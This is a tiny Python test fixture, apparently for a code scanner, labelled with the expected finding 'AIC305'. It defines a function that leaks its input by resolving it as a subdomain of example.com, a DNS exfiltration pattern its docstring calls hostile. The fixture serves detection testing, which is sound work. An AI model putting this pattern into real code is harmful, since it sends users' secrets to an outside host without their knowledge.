# expect: AIC305
# class: 0
import socket


def run(data: str) -> object:
    """Hostile: leaks data in a DNS lookup.

    >>> run('secret')
    '1.2.3.4'
    """
    return socket.gethostbyname(data + '.example.com')
